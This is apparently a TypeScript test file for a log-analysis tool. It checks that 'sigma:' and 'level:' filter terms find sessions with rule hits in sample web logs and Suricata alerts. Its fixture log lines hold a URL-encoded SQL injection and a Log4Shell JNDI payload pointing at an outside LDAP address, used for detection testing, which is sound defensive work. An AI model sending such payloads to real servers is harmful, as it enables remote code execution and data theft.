// The filter terms over rule hits: `sigma:` (title, any part and case, or id) and `level:` (one
// level, a list, or `>=level`), parsed by the filter language and run as SQL on a real database.
import fs from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { looksUpValuesOf, suggestValues } from '../../../src-main/core/db/analytics-suggest.js';
import type { Db } from '../../../src-main/core/db/open.js';
import { runImport } from '../../../src-main/core/ingest/pipeline.js';
import {
  LOOKED_UP_TERMS,
  parseFilter,
  parseFilterOrThrow,
  serializeFilter,
} from '../../../src-shared/filter/index.js';
import { importedLog, sessionsMatching } from '../../helpers/imported-log.js';
import { createTempDirs } from '../../helpers/temp.js';

const tempDir = createTempDirs();

const LINES = [
  '192.0.2.1 - - [12/Feb/2024:10:00:00 +0000] "GET /index.html HTTP/1.1" 200 512 "-" "Mozilla/5.0"',
  `192.0.2.2 - - [12/Feb/2024:10:00:01 +0000] "GET /p.php?id=1%27%20UNION%20SELECT%20null,null-- HTTP/1.1" 200 90 "-" "Mozilla/5.0"`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload, not a template.
  '192.0.2.3 - - [12/Feb/2024:10:00:02 +0000] "GET /?x=${jndi:ldap://203.0.113.66/a} HTTP/1.1" 200 0 "-" "Mozilla/5.0"',
  '192.0.2.4 - - [12/Feb/2024:10:00:03 +0000] "GET /wp-login.php HTTP/1.1" 404 0 "-" "Mozilla/5.0 zgrab/0.x"',
];

let db: Db;
beforeAll(async () => {
  db = await importedLog(tempDir(), LINES);
  return () => db.close();
});

const sources = (filter: string) => sessionsMatching(db, filter).items.map((session) => session.srcIp);

describe('sigma: and level:', () => {
  it('finds sessions by a rule title in any case and part, or by the rule id', () => {
    expect(sources('sigma:"sql INJECTION"')).toEqual(['192.0.2.2']);
    expect(sources('sigma:jndi')).toEqual(['192.0.2.3']);
    expect(sources('sigma:496a161d-9950-408c-ac81-42dff6ad54ad')).toEqual(['192.0.2.3']);
    expect(sources('-sigma:jndi')).toEqual(['192.0.2.1', '192.0.2.2', '192.0.2.4']);
    expect(sources('sigma:"no rule is called this"')).toEqual([]);
  });

  it('finds a rule by its id in any case, as a UUID is read (RFC 9562)', () => {
    expect(sources('sigma:496A161D-9950-408C-AC81-42DFF6AD54AD')).toEqual(['192.0.2.3']);
    expect(sources('sigma:=496A161D-9950-408C-AC81-42DFF6AD54AD')).toEqual(['192.0.2.3']);
  });

  it('reads =title as the whole title in any case (a click on a rule), or the rule id', () => {
    expect(sources('sigma:="sql injection in a WEB request"')).toEqual(['192.0.2.2']);
    expect(sources('sigma:="SQL injection"')).toEqual([]);
    expect(sources('sigma:=496a161d-9950-408c-ac81-42dff6ad54ad')).toEqual(['192.0.2.3']);
    expect(sources('-sigma:="SQL injection in a web request"')).toEqual([
      '192.0.2.1',
      '192.0.2.3',
      '192.0.2.4',
    ]);
  });

  it('reads * in a rule title as any run of characters: sigma:* is every session with a hit', () => {
    expect(sources('sigma:*')).toEqual(['192.0.2.2', '192.0.2.3', '192.0.2.4']);
    expect(sources('-sigma:*')).toEqual(['192.0.2.1']);
    expect(sources('sigma:"sql*injection"')).toEqual(['192.0.2.2']);
    // % and _ are no wildcards: typed, they are only themselves.
    expect(sources('sigma:%')).toEqual([]);
    expect(sources('sigma:_')).toEqual([]);
  });

  it('finds sessions by level, a list of levels, or a level and above', () => {
    expect(sources('level:critical')).toEqual(['192.0.2.3']);
    expect(sources('level:high')).toEqual(['192.0.2.2']);
    expect(sources('level:>=high')).toEqual(['192.0.2.2', '192.0.2.3']);
    expect(sources('level:High,CRITICAL')).toEqual(['192.0.2.2', '192.0.2.3']);
    expect(sources('level:medium')).toEqual(['192.0.2.4']);
    expect(sources('level:>=informational')).toEqual(['192.0.2.2', '192.0.2.3', '192.0.2.4']);
  });

  it('reads `>=high` back as the levels it stands for, and refuses what is no level', () => {
    expect(serializeFilter(parseFilterOrThrow('level:>=high'))).toBe('level:high,critical');
    expect(serializeFilter(parseFilterOrThrow('level:<low'))).toBe('level:informational');
    const bad = parseFilter('level:severe');
    expect(bad.ok).toBe(false);
    if (!bad.ok)
      expect(bad.error.message).toMatch(
        /"severe" is not a level \(informational, low, medium, high, critical\)/,
      );
    expect(parseFilter('level:>critical').ok).toBe(false);
  });

  it('keeps status: an alias of code:', () => {
    expect(serializeFilter(parseFilterOrThrow('status:>=400'))).toBe('code:>=400');
    expect(sources('status:404')).toEqual(['192.0.2.4']);
    expect(sources('status:4xx')).toEqual(['192.0.2.4']);
    expect(sources('-code:2xx')).toEqual(['192.0.2.4']);
  });

  it('looks up the values of every term the filter bar asks about, request fields included', () => {
    for (const term of LOOKED_UP_TERMS) expect(looksUpValuesOf(term), term).toBe(true);
    expect([...LOOKED_UP_TERMS]).toEqual(
      expect.arrayContaining(['method', 'host', 'path', 'ua', 'referrer']),
    );
    expect(suggestValues(db, 'ua', 'ZGRAB', 10)).toEqual([{ value: 'Mozilla/5.0 zgrab/0.x', sessions: -1 }]);
    expect(suggestValues(db, 'path', '/wp', 10)).toEqual([{ value: '/wp-login.php', sessions: -1 }]);
  });

  it('suggests the titles of rules with hits', () => {
    expect(suggestValues(db, 'sigma', 'inj', 10).map((value) => value.value)).toEqual([
      expect.stringMatching(/injection/i),
      expect.stringMatching(/injection/i),
    ]);
  });

  // Last: it adds a Suricata log to the workspace the tests above read.
  it('finds a Suricata alert by its signature id alone (its rule is named gid:sid:rev)', async () => {
    const eve = path.join(tempDir(), 'eve.json');
    fs.writeFileSync(
      eve,
      `${JSON.stringify({
        timestamp: '2024-02-12T10:00:05.000000+0000',
        flow_id: 1,
        event_type: 'alert',
        src_ip: '192.0.2.9',
        src_port: 40000,
        dest_ip: '198.51.100.1',
        dest_port: 80,
        proto: 'TCP',
        alert: { gid: 1, signature_id: 2034647, rev: 2, signature: 'ET EXPLOIT test', severity: 1 },
      })}\n`,
    );
    await runImport(db, { file: eve, enrich: false });
    expect(sources('sigma:2034647')).toEqual(['192.0.2.9']);
    expect(sources('sigma:1:2034647:2')).toEqual(['192.0.2.9']);
    expect(sources('sigma:203464')).toEqual([]);
  });

  // After the one above: it adds another Suricata alert.
  it('finds a title with letters beyond ASCII in any case, as the other text terms do', async () => {
    const eve = path.join(tempDir(), 'eve2.json');
    const alert = { gid: 1, signature_id: 2999001, rev: 1, signature: 'ÉTÉ probe', severity: 2 };
    fs.writeFileSync(
      eve,
      `${JSON.stringify({
        timestamp: '2024-02-12T10:00:06.000000+0000',
        flow_id: 2,
        event_type: 'alert',
        src_ip: '192.0.2.10',
        src_port: 40001,
        dest_ip: '198.51.100.1',
        dest_port: 80,
        proto: 'TCP',
        alert,
      })}\n`,
    );
    await runImport(db, { file: eve, enrich: false });
    expect(sources('sigma:ÉTÉ')).toEqual(['192.0.2.10']);
    expect(sources('sigma:été')).toEqual(['192.0.2.10']);
    expect(sources('sigma:"été*probe"')).toEqual(['192.0.2.10']);
    expect(sources('sigma:="Été PROBE"')).toEqual(['192.0.2.10']);
  });
});
